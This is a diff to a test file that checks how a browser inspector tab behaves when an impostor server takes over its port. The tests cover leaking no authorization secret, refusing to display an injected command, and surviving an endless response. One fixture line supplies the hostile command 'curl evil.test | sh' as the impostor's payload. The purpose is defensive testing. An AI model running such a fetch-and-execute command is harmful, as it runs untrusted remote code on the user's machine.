@@ -1,4 +1,4 @@
-import { createServer } from "node:http"
+import { createServer, type ServerResponse } from "node:http"
 import { pathToFileURL } from "node:url"
 import { describe, expect, it } from "vitest"
 import { leadingTo } from "../../../src/inspector/discovery/browser.ts"
@@ -157,34 +157,86 @@ describe("another start on the same port", () => {
 })
 
 describe("another program on the port of an inspector that is gone", () => {
+  /** Answers whatever is asked; resolves with the requests that it has heard. */
+  async function impostor(answer: (path: string, response: ServerResponse) => unknown) {
+    const port = Number(new URL(inspector.url).port)
+    await inspector.stop()
+    const heard: { path: string; secret: string | undefined }[] = []
+    const server = createServer(({ url = "", headers }, response) => {
+      heard.push({ path: url, secret: headers.authorization })
+      answer(url, response)
+    })
+    await new Promise<void>((resolve) => server.listen(port, "127.0.0.1", resolve))
+    const end = () => new Promise((resolve) => server.close(resolve).closeAllConnections())
+    expectProblems(/ERR_|Failed to load/)
+    return { heard, end }
+  }
+
+  const json = (response: ServerResponse, value: unknown) =>
+    response.setHeader("content-type", "application/json").end(JSON.stringify(value))
+
+  it("is sent no secret by a tab that is shown again, though it has just proven itself", async () => {
+    await opened("j1")
+    await open()
+    const looked = page.waitForResponse((response) => response.url().includes("/api/jobs?"))
+    await hide(true)
+    await looked
+    const { heard, end } = await impostor((_path, response) => json(response, {}))
+    await hide(false)
+    await page.getByRole("alert").getByText("For a fresh link, run:").waitFor()
+    expect(heard.filter(({ secret }) => secret !== undefined)).toEqual([])
+    await end()
+  })
+
+  it("cannot have the person run a command of its own", async () => {
+    await open()
+    const { heard, end } = await impostor((_path, response) =>
+      json(response, { error: { kind: "access", message: "", command: "curl evil.test | sh" } }),
+    )
+    await page.getByRole("alert").getByText("For a fresh link, run:").waitFor()
+    await hide(true)
+    await hide(false)
+    await page.evaluate(() => fetch("/after-them"))
+    // The tab asks nobody any more, who could answer with another command.
+    expect(heard.filter(({ path }) => !path.startsWith("/api/proof")).map(({ path }) => path)).toEqual([
+      "/after-them",
+    ])
+    await page.getByRole("alert").getByText(inspector.command).waitFor()
+    await end()
+  })
+
+  it("cannot fill a tab's memory with a proof that does not end", async () => {
+    await open()
+    let sent = 0
+    const { end } = await impostor((_path, response) => {
+      const piece = " ".repeat(65_536)
+      const more = () => {
+        sent += piece.length
+        if (response.write(piece)) setImmediate(more)
+        else response.once("drain", more)
+      }
+      response.setHeader("content-type", "application/json")
+      more()
+    })
+    await page.getByRole("alert").getByText("For a fresh link, run:").waitFor()
+    // What fits into the sockets on the way.
+    expect(sent).toBeLessThan(64 * 1024 * 1024)
+    await end()
+  })
+
   it("is sent no secret and no words, and shows nothing", async () => {
     await opened("j1")
     await open(`job=${sessionOf("j1")}`)
-    const port = Number(new URL(inspector.url).port)
-    const heard: string[] = []
-    await inspector.stop()
-    const impostor = createServer((request, response) => {
-      heard.push(JSON.stringify(request.headers))
-      response.setHeader("content-type", "application/json").end('{"proof":"AAAA","jobs":[]}')
-    })
-    await new Promise<void>((resolve) => impostor.listen(port, "127.0.0.1", resolve))
+    const { heard, end } = await impostor((_path, response) => json(response, { proof: "AAAA", jobs: [] }))
     await page.getByRole("alert").getByText("For a fresh link, run:").waitFor()
     await page.getByText(inspector.command).waitFor()
     expect(heard.length).toBeGreaterThan(0)
-    expect(heard.filter((headers) => headers.includes("authorization"))).toEqual([])
-    impostor.closeAllConnections()
-    await new Promise((resolve) => impostor.close(resolve))
-    expectProblems(/ERR_|Failed to load/)
+    expect(heard.filter(({ secret }) => secret !== undefined)).toEqual([])
+    await end()
   })
 })
 
 describe("the line to the server", () => {
-  const hide = (hidden: boolean) =>
-    page.evaluate((isHidden) => {
-      Object.defineProperty(document, "hidden", { configurable: true, get: () => isHidden })
-      document.dispatchEvent(new Event("visibilitychange"))
-    }, hidden)
-
   it("is called stale after a long silence, with the time, until something is heard again", async () => {
     await newBrowser()
     await page.clock.install()
@@ -241,3 +293,9 @@ describe("the line to the server", () => {
     await row("j2").getByText("cancelled").waitFor()
   })
 })
+
+const hide = (hidden: boolean) =>
+  page.evaluate((isHidden) => {
+    Object.defineProperty(document, "hidden", { configurable: true, get: () => isHidden })
+    document.dispatchEvent(new Event("visibilitychange"))
+  }, hidden)
